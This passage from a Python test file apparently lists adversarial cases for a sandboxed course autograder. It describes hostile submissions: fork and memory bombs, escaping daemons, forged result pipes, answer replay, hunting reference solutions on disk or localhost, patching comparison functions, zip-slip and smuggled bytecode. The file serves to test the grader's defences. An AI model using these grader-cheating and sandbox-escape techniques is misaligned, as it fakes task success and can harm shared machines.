        build_leak_across,
        FULL["ex2"],
        "exercise 1 is the reference, but each call its hidden checks make writes the request it "
        "serves (their inputs) to /dev/shm and /tmp; exercise 2 is the reference too, but raises "
        "what it finds there when imported. Each exercise's process of the shared worker starts "
        "from a state no earlier one could write (processes killed, its files in the shared "
        "places and the work folder removed): exercise 2 finds nothing and keeps its points, and "
        "no hidden input reaches a reason",
        leftovers=("/dev/shm/MARKER-leak", "/tmp/MARKER-leak"),
        defence="fresh-state-per-exercise",
        hidden_inputs_absent=True,
        modes=("default", "user"),
        flagged="removed",
    ),
    Case(
        "frame-walker-flagged",
        "ex1",
        module_case(LM, lambda m: reference(LM) + WORKER_FRAME + "\n_peek = _worker\n"),
        FULL["ex1"],
        "the reference with a helper that walks the call stack to the worker's frame (never "
        "called): it keeps every point, and the instructor is told where it reaches in",
        defence="flag-code-that-reaches-in",
        flagged="walks the call stack",
    ),
    Case(
        "input-derived-timer",
        "ex2",
        module_case(
            "launch_tax",
            lambda m: (
                edit(
                    reference("launch_tax"),
                    (
                        "    for _ in range(warmup):\n        fn()\n    if torch.cuda.is_available():",
                        "    if True:\n        return _input_derived(fn, iters, warmup)\n"
                        "    if torch.cuda.is_available():",
                    ),
                )
                + INPUT_DERIVED_TIMER
            ),
        ),
        FULL["ex2"] - points("ex2.time_ms_mean_ms") - points("ex2.time_ms_exact_mean"),
        "time_ms calls fn warmup + iters times, reads no clock and returns the middle of the "
        "durations the probe's timed calls sleep, found in the probe's frame: the timed calls' "
        "durations are drawn when they are made and the window comes from the clock around them, "
        "so time_ms_mean_ms is lost, and so is time_ms_exact_mean (on a fake clock no probe "
        "frame holds the durations); everything else about the timer holds",
        defence="observed-timer-window",
    ),
    Case(
        "swallowed-timeout",
        "ex2",
        hostile("launch_tax", SWALLOWED_TIMEOUT, end=True),
        0,
        "time_ms sleeps forever, catching every exception and ignoring catchable signals: the "
        "worker is killed at the timeout",
        timeout=6,
        reason="timed out",
    ),
    Case(
        "memory-bomb",
        "ex6",
        hostile("dispatch", MEMORY_BOMB),
        0,
        "allocates (and touches) memory at import until refused, then keeps trying until killed; "
        "had it got 6 GiB (past the 4 GiB cap) it would have carried on as the reference",
        timeout=8,
        reason="timed out",
    ),
    Case(
        "fork-bomb",
        "ex4",
        hostile("static_runner", FORK_BOMB),
        0,
        "forks in a loop at import (each child holds its slot) and keeps forking until killed; the "
        "process cap stops it at 64; had 300 forks been allowed it would have carried on as the "
        "reference (300 at most: the case cannot take the machine down even without the cap)",
        timeout=6,
        reason="timed out",
    ),
    Case(
        "escaping-daemon",
        "ex1",
        hostile(LM, ESCAPING_DAEMON),
        FULL["ex1"],
        "double-forks a daemon (new session, no box marker in its environment) that writes files "
        "forever; the module is otherwise the reference, so it keeps its points, and the daemon "
        "must be gone and have written nothing outside the box",
        leftovers=("/tmp/MARKER-daemon", "/var/tmp/MARKER-daemon", "/dev/shm/MARKER-daemon"),
    ),
    Case(
        "daemon-outlives-worker",
        "ex2",
        hostile("launch_tax", UID_DAEMON),
        FULL["ex2"],
        "without namespaces (Gradescope), a double-forked daemon in a new session with an empty "
        "environment escapes the process-group kill and the sweep by box marker: the worker's uid "
        "is free for the next worker only once it owns no process (killed by uid) and no file "
        "(its files in the shared places removed). Exercise 2 is the last one its worker "
        "serves: nothing after it in the worker clears the way",
        leftovers=("/tmp/MARKER-daemon", "/var/tmp/MARKER-daemon", "/dev/shm/MARKER-daemon"),
        defence="uid-free-only-when-empty",
        modes=("user",),
        flagged="outlived the worker",
    ),
    Case(
        "worker-leaves-group",
        "ex2",
        hostile("launch_tax", INIT_ESCAPE),
        0,
        "the worker itself calls setsid() and execs a shell loop with an empty environment: it "
        "is out of the process group and carries no box marker; it must still be killed",
        timeout=6,
        reason="timed out",
    ),
    Case(
        "output-flood",
        "ex4",
        hostile("static_runner", OUTPUT_FLOOD),
        0,
        "prints 4 GiB at import (stdout and stderr); had it not been stopped it would have carried on as the reference",
        reason="flood",
    ),
    Case(
        "fake-results-printed",
        "ex6",
        hostile("dispatch", FAKE_RESULTS, base=stub),
        0,
        "the dispatch stub printing a Gradescope-like JSON, a result-like JSON and a table row, "
        "and writing results.json files wherever it can: nothing printed or written counts",
        leftovers=("/tmp/MARKER-results.json", "/var/tmp/MARKER-results.json"),
    ),
    Case(
        "forged-result-pipe",
        "ex1",
        hostile(LM, FORGED_RESULT, base=stub, end=True),
        0,
        "the launch_model stub finds the worker's pipe up the stack and answers every request "
        "itself (made-up values, a tensor whose bytes do not match its shape, one answer too "
        "many) before the worker can: the judge reads a malformed result and does not crash",
        reason="malformed",
        defence="malformed-answers-caught",
    ),
    Case(
        "replay-recorded-answers",
        "ex1",
        build_replay(LM, "ex1"),
        0,
        "the launch_model stub answers every probe from the release's recorded answers "
        "(grader/expected.json, embedded in the module), looked up by probe and arguments and "
        "sent on the worker's pipe: under a grading secret no input is the release's, so it gets "
        "nothing (in practice mode it gets every public point)",
        defence="grading-secret",
    ),
    Case(
        "replay-recorded-answers-dispatch",
        "ex6",
        build_replay("dispatch", "ex6"),
        0,
        "the same replay for the dispatcher, whose answers are tables a student could copy",
        defence="grading-secret",
    ),
    Case(
        "hidden-checks-quiet",
        "ex6",
        module_case("dispatch", lambda m: raising("dispatch", 'ValueError("LEAKMARKER " + repr(locals()))')),
        0,
        "every function raises a ValueError carrying its arguments: public reasons show them (they "
        "are the public inputs), hidden checks show their rule and nothing the worker said",
        hidden_quiet=True,
        defence="hidden-reason-is-the-rule",
    ),
    Case(
        "hidden-inputs-at-import",
        "ex6",
        hostile("dispatch", LEAK_HIDDEN_INPUTS, end=True),
        0,
        "the module raises at import with the arguments of every probe in the request, the last "
        "first: the hidden probes are not in that request (they are asked only once the public "
        "answers are in), so no hidden input reaches any report",
        hidden_inputs_absent=True,
        defence="hidden-second-frame",
    ),
    Case(
        "raise-valueerror-everywhere",
        "all",
        build_raising(lambda: f"ValueError({_every_name_a_check_asks_for()!r})"),
        0,
        "every function of every module raises a ValueError naming every argument any check asks "
        "about: each check that expects an error also has a valid input, so it gets nothing",
        others="zero",
        defence="valid-inputs-in-rejection-checks",
    ),
    Case(
        "cuda-needed-everywhere",
        "all",
        build_raising(
            lambda: (
                'type("Refusal", (ValueError, TypeError, RuntimeError), {})('
                f'"a CUDA device is needed (torch.cuda.is_available() is False); bad '
                f'arguments: {" ".join(_every_argument_named())}")'
            )
        ),
        0,
        "every function of every module raises one error that is at once a ValueError, a "
        "TypeError and a RuntimeError, names every argument any check asks about and says a CUDA "
        "device is needed: every check that expects errors also asks something valid (to be "
        "accepted), so it gets nothing",
        others="zero",
        defence="valid-inputs-in-rejection-checks",
    ),
    Case(
        "patch-equal-during-call",
        "ex5",
        module_case(
            "buckets",
            lambda m: (
                edit(reference("buckets"), ("return out[:n].clone()", "return out[:n]")) + PATCH_EQUAL_DURING_CALL
            ),
        ),
        FULL["ex5"] - points("ex5.runner_returns_fn_of_real_rows"),
        "BucketedGraphRunner returns a view of the graph's static output (overwritten by the next "
        "replay) and replaces torch.equal during its own __call__: the worker restores it before "
        "looking at the first output again, so runner_returns_fn_of_real_rows is still lost",
        defence="restore-after-call",
    ),
    Case(
        "forged-terminal-text",
        "ex1",
        hostile(LM, FORGED_TEXT, base=stub, end=True),
        0,
        "answers whose messages, type names, strings and dict keys hold ANSI escapes (clear the "
        "screen, print a fake 13/13 row), a carriage return, a lone surrogate and a right-to-left "
        "override: the judge escapes them everywhere it prints or writes, exits 0",
        clean_output=True,
        defence="escaped-text",
    ),
    Case(
        "forged-huge-numbers",
        "ex1",
        hostile(LM, FORGED_NUMBERS, base=stub, end=True),
        0,
        "answers of 1e400, -1e400, NaN, a 401-digit and a 5000-digit integer, -0 and malformed "
        "markers where floats are expected: the judge neither crashes nor credits them",
        reason="malformed",
        defence="malformed-answers-caught",
    ),
    Case(
        "forged-million-objects",
        "ex1",
        hostile(LM, FORGED_OBJECTS, base=stub, end=True),
        0,
        "a 60 MiB answer of 20 million empty lists: refused before parsing (over the frame cap; "
        "the cap on values within a frame is proved in tests/test_wire.py), the judge's memory "
        "stays small",
        reason="larger than",
        max_rss_mb=1000,
        defence="bounded-decoding",
    ),
    Case(
        "zip-two-copies",
        "ex1",
        build_two_copies,
        0,
        "a zip of the reference with a second launch_model.py (the stub) one folder down: what an "
        "extraction keeps depends on the tool, so the zip is refused with the reason",
        reason="two or more members",
        others="zero",
        defence="one-member-per-module",
    ),
    Case(
        "read-solutions",
        "ex1",
        build_read_solutions,
        0,
        "the stub looks for the reference on disk (the repository path, walking up from __file__, "
        "the installed grader package, /proc, copies in /tmp such as another box or a checkout "
        "- a world-readable decoy copy is planted in /tmp) and runs the first it can read; none "
        "is readable in the sandbox, so it stays a stub",
        reason="no copy of the reference",
    ),
    Case(
        "network",
        "ex1",
        build_network,
        0,
        "the stub fetches the reference from a server on this machine (127.0.0.1, an abstract unix "
        "socket, both reachable from the judge) and runs it; the worker has no network",
        reason="no network",
    ),
    Case(
        "shadow-modules",
        "ex1",
        build_shadows,
        FULL["ex1"],
        "correct modules next to math.py, hypothesis.py, sitecustomize.py, torch.py, probes.py, "
        "wire.py, json.py, __init__.py, a coursekit/ package and a .pth, each raising at import: "
        "none is copied into the sandbox, every point stays",
    ),
    Case(
        "smuggled-pyc",
        "ex1",
        build_pyc,
        0,
        "a stub launch_model.py with the reference compiled into __pycache__ (an unchecked-hash "
        "pyc) and as a sourceless launch_model.pyc: only the .py source is graded",
        reason="not implemented",
    ),
    Case(
        "patched-comparisons-wrong-values",
        "ex1",
        module_case(
            LM,
            lambda m: at_import(edit(reference(LM), ("weight_gib * 1024**3", "weight_gib * 1e9")), PATCH_COMPARISONS),
        ),
        FULL["ex1"]
        - points("ex1.decode_step_formulas", "ex1.seed_report", "ex1.report_other_rows", "ex1.fit_h200_sweep"),
        "compute_ms with 1e9 bytes per GiB, and math.isclose, torch.equal, torch.allclose, "
        "torch.isclose and operator.eq patched to say yes at import: the judge compares in its own "
        "process, so every check that sees compute_ms (formulas, both reports, the H200 fit's "
        "step probes) is lost, as without the patch",
    ),
    Case(
        "patched-equal-forges-property",
        "ex5",
        module_case(
            "buckets",
            lambda m: at_import(edit(reference("buckets"), ("return out[:n].clone()", "return out[:n]")), PATCH_EQUAL),
        ),
        FULL["ex5"] - points("ex5.runner_returns_fn_of_real_rows"),
        "BucketedGraphRunner returns a view of the graph's static output (overwritten by the next "
        "replay) and patches torch.equal at import so that the worker-side 'first output "
        "unchanged' property says yes: runner_returns_fn_of_real_rows must still be lost",
    ),
    Case(
        "syntax-error",
        "ex4",
        module_case("static_runner", lambda m: reference("static_runner") + "\ndef broken(:\n    pass\n"),
        0,
        "a syntax error: ex4 is lost, nothing else",
        reason="SyntaxError",
    ),
    Case(
        "missing-function",
        "ex1",
        module_case(LM, lambda m: edit(reference(LM), ("def fit_launch_model(", "def _unfinished_fit("))),
        FULL["ex1"] - points("ex1.fit_launch_model", "ex1.fit_h200_sweep"),
        "no fit_launch_model: the two checks that call it are lost (AttributeError), the rest stays",
        reason="has no attribute 'fit_launch_model'",
    ),
    Case(
        "symlink-to-solutions",
        "ex1",
        build_symlink,
        0,
        "launch_model.py is a symlink to solutions/launch_model.py: refused, with the reason",
        reason="symlink",
    ),
    Case(
        "zip-slip",
        "ex1",
        build_zip_slip,
        FULL["ex1"],
        "a zip with the correct modules at its top and members named ../../x.py and an absolute "
        "/tmp path: members are read, never extracted, nothing is written anywhere",
        leftovers=("/tmp/MARKER-ran", "/tmp/MARKER-slip.py", "/tmp/MARKER-abs.py"),
    ),
    Case(
        "zip-corrupt-member",
        "ex1",
        build_corrupt_member,
        0,
        "a zip of the reference whose launch_model.py does not inflate (zlib.error while reading): "
        "that module is unreadable (0), the others are graded",
        reason="unreadable zip member",
    ),
    Case(
        "zip-unsupported-version",
        "ex1",
        build_zip_version,
        0,
        "a zip whose central directory needs zip version 12.7 (zipfile raises NotImplementedError "
        "on opening it): graded as empty, exit status 0, the notes say why",
        reason="not a readable zip",
        others="zero",
    ),
    Case(
        "notebook-invalid-json",
        "ex1",
        build_notebook(lambda: b'{"cells": [{"cell_type": "code",'),
        0,
        "a notebook that is not JSON: graded as empty (every exercise 0), exit status 0, the notes name the notebook",
        reason=".ipynb",
        others="zero",
    ),
    Case(
        "notebook-deep-nesting",
        "ex1",
        build_notebook(lambda: b"[" * 200_000 + b"]" * 200_000),
        0,
        "a notebook of 200000 nested lists (json raises RecursionError): graded as empty, exit "
        "status 0, the notes name the notebook",
        reason=".ipynb",
        others="zero",
    ),
    Case(
        "notebook-bad-cells",
        "ex1",
        build_notebook(_bad_cells_notebook),
        FULL["ex1"],
        "a notebook whose cells hold numbers, dicts, None and non-cells, then one good "
        "%%writefile launch_model.py cell: the bad cells are skipped, launch_model is graded "
        "(full points), the other modules are not in the notebook (0)",
        others="zero",
    ),
    Case(
        "huge-sparse-module",
        "ex4",
        build_huge_module,
        0,
        "static_runner.py is a 3 GiB sparse file: refused as too large, without the judge reading "
        "it whole (its peak memory stays low)",
        reason="larger than",
        max_rss_mb=1500,
    ),
    Case(
        "disk-filler",
        "ex1",
        hostile(LM, DISK_FILLER),
        FULL["ex1"],
        "writes 32 MiB files into its working folder at import until refused; it sabotages itself "
        "only if 1 GiB got written (nothing capped the folder), else it is the reference",
        reason="",
    ),
]
